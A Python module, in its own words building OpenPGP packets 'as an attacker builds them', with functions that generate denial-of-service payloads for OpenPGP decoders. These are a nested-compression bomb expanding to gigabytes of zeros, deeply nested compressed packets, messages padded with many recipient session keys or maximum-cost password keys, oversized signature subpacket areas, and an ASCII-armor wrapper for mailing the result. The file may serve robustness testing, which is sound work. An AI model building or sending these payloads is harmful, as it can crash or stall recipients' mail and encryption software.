"""OpenPGP packets as an attacker builds them (RFC 4880): raw, to be encrypted as they are or to stand in a mail."""

import base64
import bz2
import struct
import zlib

ZIP, ZLIB, BZIP2 = 1, 2, 3


def packet(tag, content):
    return bytes([0xC0 | tag, 0xFF]) + struct.pack(">I", len(content)) + content


def endless(tag, content):
    """Old format, indeterminate length: to the end of what it is in."""
    return bytes([0x80 | tag << 2 | 3]) + content


def literal(content):
    return endless(11, b"b\0" + bytes(4) + content)


def compressed(algorithm, content):
    if algorithm == BZIP2:
        packed = bz2.compress(content)
    else:
        deflater = zlib.compressobj(9, zlib.DEFLATED, -15 if algorithm == ZIP else 15)
        packed = deflater.compress(content) + deflater.flush()
    return endless(8, bytes([algorithm]) + packed)


def zeros(gigabytes):
    """A compressed packet of a literal of so many gigabytes of zeros, in a second one: some 10 KB a gigabyte."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflater.compress(literal(b"")) + deflater.flush(zlib.Z_FULL_FLUSH)
    megabyte = deflater.compress(bytes(1 << 20)) + deflater.flush(zlib.Z_FULL_FLUSH)
    end = deflater.flush(zlib.Z_FINISH)
    return compressed(ZLIB, endless(8, bytes([ZIP]) + start + megabyte * (gigabytes * 1024) + end))


def nested(levels):
    content = literal(b"Content-Type: text/plain\r\n\r\nx\r\n")
    for _ in range(levels):
        content = compressed(ZIP, content)
    return content


def split_first(message):
    """(the first packet, the rest) of a binary message with one recipient, as gpg writes it."""
    if message[0] & 0x40:
        raise ValueError("new format")
    size = {0: 1, 1: 2, 2: 4}[message[0] & 3]
    end = 1 + size + int.from_bytes(message[1:1 + size], "big")
    return message[:end], message[end:]


def many_recipients(message, count, key_id):
    """The message with so many more session keys before its own, each for `key_id` (8 bytes; zeros: hidden)."""
    first, rest = split_first(message)
    header = 1 + {0: 1, 1: 2, 2: 4}[first[0] & 3]
    other = first[:header + 1] + key_id + first[header + 9:]
    return other * count + first + rest


def many_passwords(message, count):
    """Symmetric-key encrypted session keys, iterated S2K of the largest count, before the encrypted data."""
    _, rest = split_first(message)
    session_key = packet(3, b"\x04\x09\x03\x08" + b"saltsalt" + b"\xff")
    return session_key * count + rest


def signature(subpackets):
    """A signature by nobody with so many subpackets, as many as one holds in each area."""
    area = (b"\x02\x64x" * subpackets)[:65535 // 3 * 3]
    hashed = b"\x04\x00\x16\x08" + struct.pack(">H", len(area)) + area + struct.pack(">H", len(area)) + area
    return packet(2, hashed + b"\0\0" + (b"\x01\x00" + b"\xff" * 32) * 2)


def armor(content, head=b"\n", crc=True):
    checksum = 0xB704CE
    if crc:
        for byte in content[:100_000]:
            checksum ^= byte << 16
            for _ in range(8):
                checksum = checksum << 1 ^ (0x1864CFB if checksum & 0x800000 else 0)
    encoded = base64.b64encode(content)
    lines = b"\n".join(encoded[at:at + 76] for at in range(0, len(encoded), 76))
    tail = b"=" + base64.b64encode(struct.pack(">I", checksum)[1:]) + b"\n" if crc and len(content) < 100_000 else b""
    return b"-----BEGIN PGP MESSAGE-----\n" + head + lines + b"\n" + tail + b"-----END PGP MESSAGE-----\n"
